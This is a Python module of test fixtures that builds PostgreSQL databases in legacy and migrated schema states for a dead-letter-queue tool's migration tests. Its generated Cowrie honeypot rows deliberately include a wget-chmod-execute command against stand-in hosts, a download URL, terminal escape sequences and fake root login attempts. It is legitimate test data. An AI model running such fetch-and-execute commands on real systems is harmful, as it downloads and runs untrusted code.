"""Build databases in the states users have: empty, legacy v6 with rows, half-applied v7, v7, v8+.

The legacy builders use hand-written DDL taken from legacy-schema.md (not the migration's own code),
so the migration tests cross-check the runner against an independent description of the databases
it meets. Rows are generated server-side so that a million of them take seconds, not minutes.
`make_v7` goes through the real migration runner; `create_v7_from_metadata` builds the v7 end state
from dlq_tui.db.schema as a second cross-check (and to build v8+ databases).
"""

from __future__ import annotations

from sqlalchemy import Connection, Engine, text

from dlq_tui.db import schema

LEGACY_DDL = (
    """CREATE TABLE schema_state (
        key VARCHAR(128) PRIMARY KEY,
        value VARCHAR(256) NOT NULL
    )""",
    """CREATE TABLE dead_letter_events (
        id SERIAL PRIMARY KEY,
        ingest_id VARCHAR(64),
        source VARCHAR(512),
        source_offset INTEGER,
        reason VARCHAR(128) NOT NULL,
        payload JSON NOT NULL,
        metadata_json JSON,
        created_at TIMESTAMP WITH TIME ZONE NOT NULL DEFAULT now(),
        resolved BOOLEAN NOT NULL DEFAULT false,
        resolved_at TIMESTAMP WITH TIME ZONE
    )""",
    "CREATE INDEX ix_dead_letter_events_created ON dead_letter_events (created_at)",
    "CREATE INDEX ix_dead_letter_events_source ON dead_letter_events (source)",
)

# Cowrie-shaped rows, generated from a series number g. The payload is built as *text* (odd spacing
# and key order kept, because `json` stores the text as written) and holds attacker-style content:
# shell commands, an escape sequence, backslashes, non-ASCII. Every 50th row has no source/offset.
_ROWS_SQL = r"""
INSERT INTO dead_letter_events
    (ingest_id, source, source_offset, reason, payload, metadata_json, created_at, resolved, resolved_at)
SELECT
    'ingest-' || (g / 1000),
    CASE WHEN g % 50 = 0 THEN NULL
         ELSE '/var/log/cowrie/cowrie.json.2024-03-' || lpad(((g % 28) + 1)::text, 2, '0') END,
    CASE WHEN g % 50 = 0 THEN NULL ELSE g * 7 END,
    (ARRAY['json_parsing_failed', 'file_type_mismatch', 'payload_not_dict', 'unknown'])[g % 4 + 1],
    (CASE g % 4
        WHEN 0 THEN '{"malformed_content": ' || to_json('{"eventid": "cowrie.command.input", "input": "wget http://198.51.100.'
             || (g % 255) || '/x.sh; chmod +x x.sh; ./x.sh", "session": "' || md5(g::text) || '"')::text
             || ', "parsing_timestamp": "2024-03-01T12:00:' || lpad((g % 60)::text, 2, '0') || 'Z", "original_offset": '
             || (g * 7) || '}'
        WHEN 1 THEN '{"original_offset":' || (g * 7) || ',"malformed_content":'
             || to_json(E'\u001b[2J\u001b]0;pwned\u0007 echo "caf\u00e9 \\\\ \u2603" ' || g)::text || '}'
        WHEN 2 THEN '[1, 2, {"nested": {"eventid": "cowrie.login.failed", "username": "root", "password": "'
             || md5((g * 3)::text) || '"}}]'
        ELSE '{ "eventid" : "cowrie.session.file_download",  "url": "http://203.0.113.9/' || g || '",  "shasum": "'
             || md5(g::text) || md5((g + 1)::text) || '" }'
     END)::json,
    CASE WHEN g % 3 = 0
         THEN '{"json_parsing_failed": true, "potentially_multiline": true, "requires_investigation": true}'::json
         ELSE NULL END,
    timestamptz '2024-03-01 00:00:00+00' + g * interval '1 second',
    g % 5 = 0,
    CASE WHEN g % 5 = 0 THEN timestamptz '2024-03-01 00:00:00+00' + g * interval '1 second' + interval '90 seconds'
         ELSE NULL END
FROM generate_series(CAST(:first AS integer), CAST(:last AS integer)) AS g
"""


def create_empty_legacy_objects(conn: Connection, *, marker: str | None = "6") -> None:
    for ddl in LEGACY_DDL:
        conn.execute(text(ddl))
    if marker is not None:
        conn.execute(text("INSERT INTO schema_state (key, value) VALUES ('schema_version', :v)"), {"v": marker})


def insert_legacy_rows(conn: Connection, rows: int, *, first: int = 1) -> None:
    """Insert `rows` Cowrie-shaped rows the way a pre-v7 writer does (legacy columns only)."""
    if rows > 0:
        conn.execute(text(_ROWS_SQL), {"first": first, "last": first + rows - 1})


def add_duplicate_sources(conn: Connection, ids: tuple[int, ...], *, earlier_id: int | None = None) -> list[int]:
    """Copy (source, source_offset, payload text) of the given rows into new rows, created later.

    When `earlier_id` is given, its copy gets a created_at *before* the original: by the rule
    "the oldest row (created_at, id) keeps the key", that copy wins although its id is higher.
    Returns the ids of the new rows.
    """
    new_ids: list[int] = []
    for source_id in ids:
        shift = "- interval '1 hour'" if source_id == earlier_id else "+ interval '1 hour'"
        new_ids.append(
            conn.execute(
                text(
                    "INSERT INTO dead_letter_events (ingest_id, source, source_offset, reason, payload, created_at) "
                    f"SELECT 'ingest-dup', source, source_offset, reason, payload, created_at {shift} "
                    "FROM dead_letter_events WHERE id = :id RETURNING id"
                ),
                {"id": source_id},
            ).scalar_one()
        )
    return new_ids


def make_legacy_v6(engine: Engine, rows: int = 0, *, marker: str | None = "6") -> None:
    """A pre-v7 database as the Cowrie pipeline leaves it: schema_state at 6, legacy table and indexes."""
    with engine.begin() as conn:
        create_empty_legacy_objects(conn, marker=marker)
        insert_legacy_rows(conn, rows)
    with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        conn.execute(text("ANALYZE dead_letter_events"))


def make_half_applied_v7(engine: Engine, rows: int = 0) -> None:
    """What the old tool left after swallowing errors: some v7 objects, marker already '7'.

    Present: 5 of the 12 columns (retry_count without its NOT NULL), 3 of the 8 indexes, the check on
    retry_count, the metrics table without its indexes, the function, and checksums on some rows.
    Missing: the rest (unique constraint, view, circuit breaker table, both triggers, keys...).
    """
    with engine.begin() as conn:
        create_empty_legacy_objects(conn, marker="7")
        insert_legacy_rows(conn, rows)
        for stmt in (
            "ALTER TABLE dead_letter_events ADD COLUMN payload_checksum VARCHAR(64), "
            "ADD COLUMN retry_count INTEGER DEFAULT 0, ADD COLUMN error_history JSONB, "
            "ADD COLUMN priority INTEGER NOT NULL DEFAULT 5, ADD COLUMN classification VARCHAR(32)",
            "CREATE INDEX ix_dead_letter_events_retry_count ON dead_letter_events (retry_count)",
            "CREATE INDEX ix_dead_letter_events_classification ON dead_letter_events (classification)",
            "CREATE INDEX ix_dead_letter_events_priority_resolved ON dead_letter_events (priority, resolved)",
            "ALTER TABLE dead_letter_events ADD CONSTRAINT ck_retry_count_positive CHECK (retry_count >= 0)",
            """CREATE TABLE dlq_processing_metrics (
                id SERIAL PRIMARY KEY, processing_session_id VARCHAR(64) NOT NULL,
                processing_method VARCHAR(32) NOT NULL, batch_size INTEGER NOT NULL,
                processed_count INTEGER NOT NULL, repaired_count INTEGER NOT NULL, failed_count INTEGER NOT NULL,
                skipped_count INTEGER NOT NULL, processing_duration_ms INTEGER NOT NULL,
                avg_processing_time_ms INTEGER, peak_memory_mb INTEGER,
                circuit_breaker_triggered BOOLEAN NOT NULL DEFAULT FALSE, rate_limit_hits INTEGER NOT NULL DEFAULT 0,
                lock_timeout_count INTEGER NOT NULL DEFAULT 0, started_at TIMESTAMP WITH TIME ZONE NOT NULL,
                completed_at TIMESTAMP WITH TIME ZONE NOT NULL)""",
            schema.UPDATED_AT_FUNCTION_SQL,
            # The old tool's pgcrypto-less backfill got a third of the way.
            "UPDATE dead_letter_events SET payload_checksum = encode(sha256(convert_to(payload::text, 'UTF8')), 'hex') "
            "WHERE id % 3 = 0",
        ):
            conn.execute(text(stmt))


def make_v8(engine: Engine, rows: int = 0) -> None:
    """A database the pipeline already took past v7: every v7 object, marker '8', one v8 extra."""
    create_v7_from_metadata(engine, marker="8")
    with engine.begin() as conn:
        conn.execute(text("ALTER TABLE dead_letter_events ADD COLUMN v8_tenant VARCHAR(32)"))
        insert_legacy_rows(conn, rows)


def make_v7(engine: Engine) -> None:
    """An empty database taken to v7 by the migration runner itself (what `dlq-tui --migrate` produces)."""
    from dlq_tui.migrate.runner import upgrade

    for _event in upgrade(engine):
        pass


def create_v7_from_metadata(engine: Engine, *, marker: str = "7") -> None:
    with engine.begin() as conn:
        schema.metadata.create_all(conn)
        conn.execute(text(schema.HEALTH_VIEW_SQL))
        conn.execute(text(schema.UPDATED_AT_FUNCTION_SQL))
        for trigger, table in schema.UPDATED_AT_TRIGGERS.items():
            conn.execute(
                text(
                    f"CREATE TRIGGER {trigger} BEFORE UPDATE ON {table} "
                    f"FOR EACH ROW EXECUTE FUNCTION {schema.UPDATED_AT_FUNCTION}()"
                )
            )
        conn.execute(
            text("INSERT INTO schema_state (key, value) VALUES (:k, :v)"),
            {"k": schema.SCHEMA_VERSION_KEY, "v": marker},
        )
